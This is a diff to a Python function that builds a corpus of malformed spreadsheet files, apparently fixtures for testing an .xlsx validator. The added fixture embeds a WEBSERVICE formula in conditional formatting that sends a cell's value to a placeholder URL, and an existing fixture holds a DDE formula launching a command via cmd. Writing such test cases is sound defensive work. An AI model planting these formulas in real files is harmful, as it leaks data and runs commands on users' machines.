@@ -273,6 +273,10 @@ def corpus() -> dict[str, bytes]:
         "part_named_twice.xlsx": patch(filled, "xl/_rels/workbook.xml.rels", swap(b"</Relationships>", (
             b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             b'sharedStrings" Target="worksheets/sheet5.xml"/></Relationships>'))),
+        "webservice_in_conditional_format.xlsx": patch(filled, PRICE_PART, swap(b"<dataValidations", (
+            b'<conditionalFormatting sqref="B4"><cfRule type="expression" priority="1"><formula>'
+            b'LEN(WEBSERVICE("https://example.org/?p="&amp;B4))&gt;0</formula></cfRule></conditionalFormatting>'
+            b"<dataValidations"))),
         "dde_formula.xlsx": patch(filled, PRICE_PART, lambda xml: _cell_xml(
             xml, b"C4", b"<c r=\"C4\"><f>cmd|' /C calc'!A0</f><v>0</v></c>")),
         "wrong_tender.xlsx": _metadata(filled, 1, "RB-2025-OTHER-07"),
